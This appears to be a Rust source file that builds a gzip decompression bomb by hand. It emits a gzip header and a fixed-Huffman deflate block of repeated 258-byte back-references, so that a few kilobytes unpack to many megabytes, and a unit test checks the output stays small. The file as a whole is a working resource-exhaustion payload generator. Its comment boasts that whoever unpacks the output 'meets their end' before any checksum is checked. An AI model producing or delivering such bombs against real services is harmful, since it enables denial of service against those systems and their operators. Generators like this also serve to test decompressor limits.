//! A gzip bomb, made by hand: few bytes that unpack to many.

/// Zeros that unpack to about `length` bytes: a block of fixed Huffman codes (RFC 1951, 3.2.6) which repeats the
/// byte before 258 times over and over. Whoever unpacks them meets their end before he can check the sum.
pub fn gzip(length: usize) -> Vec<u8> {
    // RFC 1952, 2.3: magic, method, no flags, no time, no hints.
    let mut bits = Bits { bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255], free: 0 };
    // The last block, of fixed codes.
    bits.push([1, 1, 0]);
    // The literal 0.
    bits.push([0, 0, 1, 1, 0, 0, 0, 0]);
    for _ in 0..length / 258 {
        // The length 258, and the distance 1.
        bits.push([1, 1, 0, 0, 0, 1, 0, 1]);
        bits.push([0; 5]);
    }
    // The end of the block.
    bits.push([0; 7]);
    bits.bytes.extend([0; 8]);
    bits.bytes
}

/// Bits from the lowest of each byte on.
struct Bits {
    bytes: Vec<u8>,
    free: u8,
}

impl Bits {
    fn push<const N: usize>(&mut self, bits: [u8; N]) {
        for bit in bits {
            if self.free == 0 {
                self.bytes.push(0);
                self.free = 8;
            }
            *self.bytes.last_mut().unwrap() |= bit << (8 - self.free);
            self.free -= 1;
        }
    }
}

#[test]
fn a_bomb_is_small() {
    let bomb = gzip(10_000_000);
    assert!(bomb.starts_with(&[0x1f, 0x8b]) && bomb.len() < 70_000, "{}", bomb.len());
}
